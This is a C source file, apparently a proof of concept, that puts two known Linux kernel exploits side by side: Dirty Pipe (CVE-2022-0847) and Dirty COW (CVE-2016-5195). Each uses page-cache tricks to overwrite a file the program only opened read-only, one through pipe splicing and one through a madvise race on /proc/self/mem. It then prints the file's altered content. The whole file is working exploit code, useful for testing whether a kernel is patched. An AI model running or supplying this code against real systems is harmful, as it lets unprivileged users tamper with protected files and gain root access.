// Dirty Pipe (CVE-2022-0847) and Dirty COW (CVE-2016-5195): the argument's file, opened read-only, is written by way of
// its page cache. On a kernel with the fixes nothing happens.
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static const char word[] = "dirty";
static char *map;
static const int rounds = 20000;

static void dirty_pipe(int file) {
  int ends[2];
  if (pipe(ends) < 0) return;
  static char page[4096];
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  // Every buffer of the pipe gets PIPE_BUF_FLAG_CAN_MERGE, and keeps it when it is empty again.
  for (int left = size; left > 0; left -= 4096) if (write(ends[1], page, 4096) < 0) return;
  for (int left = size; left > 0; left -= 4096) if (read(ends[0], page, 4096) < 0) return;
  off64_t offset = 0;
  if (splice(file, &offset, ends[1], NULL, 1, 0) != 1) { perror("splice"); return; }
  if (write(ends[1], word, sizeof word - 1) < 0) perror("write");
}

static void *discard(void *unused) {
  for (int round = 0; round < rounds; round++) madvise(map, 4096, MADV_DONTNEED);
  return unused;
}

static void dirty_cow(int file) {
  map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  if (map == MAP_FAILED || memory < 0) { perror("dirty cow"); return; }
  pthread_t thread;
  pthread_create(&thread, NULL, discard, NULL);
  for (int round = 0; round < rounds; round++) if (pwrite(memory, word, sizeof word - 1, (off_t)map) < 0) break;
  pthread_join(thread, NULL);
}

int main(int argc, char **argv) {
  int file = argc > 1 ? open(argv[1], O_RDONLY) : -1;
  if (file < 0) { perror("open"); return 1; }
  dirty_pipe(file);
  dirty_cow(file);
  char now[64] = "";
  if (pread(file, now, sizeof now - 1, 0) > 0) printf("now: %s\n", now);
  return 0;
}
